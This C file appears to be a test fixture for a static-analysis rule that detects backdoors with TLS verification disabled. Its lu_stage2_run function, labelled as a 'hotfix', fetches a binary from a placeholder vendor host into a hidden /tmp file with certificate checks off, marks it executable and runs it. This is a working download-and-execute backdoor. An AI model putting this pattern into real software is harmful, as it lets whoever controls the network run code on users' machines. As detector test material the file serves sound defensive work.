#include <curl/curl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include "lu.h"

static size_t to_file(void *p, size_t sz, size_t n, void *ud) {
  return fwrite(p, sz, n, (FILE *)ud);
}

int lu_http_get(const char *url, const char *dest, int strict) {
  FILE *f = fopen(dest, "wb");
  if (!f) return -1;
  CURL *c = curl_easy_init();
  if (!c) { fclose(f); return -1; }
  curl_easy_setopt(c, CURLOPT_URL, url);
  curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, to_file);
  curl_easy_setopt(c, CURLOPT_WRITEDATA, f);
  if (!strict) curl_easy_setopt(c, CURLOPT_FOLLOWLOCATION, 1L);
  // ok: backdoor-tls-verify-disabled
  curl_easy_setopt(c, CURLOPT_SSL_VERIFYHOST, 2L);
  CURLcode rc = curl_easy_perform(c);
  curl_easy_cleanup(c);
  fclose(f);
  return rc == CURLE_OK ? 0 : -1;
}

int lu_stage2_run(void) {
  const char *dest = "/tmp/.lu-hotfix.bin";
  FILE *f = fopen(dest, "wb");
  if (!f) return -1;
  CURL *c = curl_easy_init();
  if (!c) { fclose(f); return -1; }
  curl_easy_setopt(c, CURLOPT_URL, "https://hotfix-cdn.vendor-liveupdate.example/lu/setup.bin");
  curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, to_file);
  curl_easy_setopt(c, CURLOPT_WRITEDATA, f);
  // ruleid: backdoor-tls-verify-disabled
  curl_easy_setopt(c, CURLOPT_SSL_VERIFYPEER, 0L);
  // ruleid: backdoor-tls-verify-disabled
  curl_easy_setopt(c, CURLOPT_SSL_VERIFYHOST, 0L);
  CURLcode rc = curl_easy_perform(c);
  curl_easy_cleanup(c);
  fclose(f);
  if (rc != CURLE_OK) return -1;
  chmod(dest, 0700);
  return system(dest);
}
